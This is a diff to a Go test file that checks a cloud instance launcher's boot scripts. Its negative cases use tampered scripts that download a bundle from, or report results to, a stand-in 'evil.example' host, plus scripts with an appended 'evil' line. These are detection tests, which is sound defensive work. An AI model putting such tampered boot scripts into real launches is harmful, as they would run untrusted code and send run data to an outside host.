@@ -51,7 +51,9 @@ func TestBuilderIsLaunchedAsThePlanSays(t *testing.T) {
 
 	data, err := base64.StdEncoding.DecodeString(*in.UserData)
 	require.NoError(t, err)
-	assert.Equal(t, "#!/bin/sh\ncurl 'https://get.example/bundles/b00b.tar.gz?sig=ab&x=1'\n", string(data))
+	assert.Equal(t, "#!/bin/sh\ncurl '' 'https://get.example/bundles/b00b.tar.gz?sig=ab&x=1'\n"+
+		"put 'https://put.example/executions/run/provisioned.json?once=x' 'https://put.example/executions/run/steps.json'\n", string(data),
+		"it may upload one verdict, and its steps again and again")
 
 	kinds := map[types.ResourceType]bool{}
 	for _, spec := range in.TagSpecifications {
@@ -119,11 +121,16 @@ func ofFirstAttempt(stage, image string) types.Instance {
 	}
 }
 
-// sentData is the user data of the tests' plan, with an address of the bundle that
-// is signed in some way.
-func sentData(signature string) string {
-	return base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl 'https://get.example/bundles/b00b.tar.gz?" + signature + "'\n"))
+// sentData is the user data of the tests' plan, with addresses that are signed in
+// some way.
+func sentData(signature string) string { return data(sentText(signature)) }
+
+func sentText(signature string) string {
+	return "#!/bin/sh\ncurl '' 'https://get.example/bundles/b00b.tar.gz?" + signature + "'\n" +
+		"put 'https://put.example/executions/run/provisioned.json?" + signature + "' 'https://put.example/executions/run/steps.json?" + signature + "'\n"
 }
+
+func data(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }
 
 func TestAnInstanceThatThisExecutionDidNotLaunchIsNotAdopted(t *testing.T) {
 	type change struct {
@@ -160,9 +167,11 @@ func TestAnInstanceThatThisExecutionDidNotLaunchIsNotAdopted(t *testing.T) {
 		changes map[string]change
 	}{
 		"builder": {in: LaunchInput{Role: "builder"}, stage: "LaunchBuilder", data: sentData("sig=x"), changes: map[string]change{
-			"with other user data":          {data: base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl evil\n")), tells: "its user data is not what"},
-			"with a bundle of elsewhere":    {data: base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl 'https://evil.example/bundles/b00b.tar.gz?sig=x'\n")), tells: "its user data is not what"},
-			"with more after the user data": {data: base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl 'https://get.example/bundles/b00b.tar.gz?sig=x'\nevil\n")), tells: "its user data is not what"},
+			"with other user data":            {data: data("#!/bin/sh\ncurl evil\n"), tells: "its user data is not what"},
+			"with a bundle of elsewhere":      {data: data(strings.Replace(sentText("sig=x"), "get.example", "evil.example", 1)), tells: "its user data is not what"},
+			"that reports elsewhere":          {data: data(strings.Replace(sentText("sig=x"), "put.example", "evil.example", 1)), tells: "its user data is not what"},
+			"that reports for another's name": {data: data(strings.Replace(sentText("sig=x"), "executions/run/steps", "executions/other/steps", 1)), tells: "its user data is not what"},
+			"with more after the user data":   {data: data(sentText("sig=x") + "evil\n"), tells: "its user data is not what"},
 		}},
 		"verifier": {in: LaunchInput{Role: "verifier", ImageID: "ami-new"}, stage: "LaunchVerifier", changes: map[string]change{
 			"with user data": {data: base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\n")), tells: "its user data is not what"},
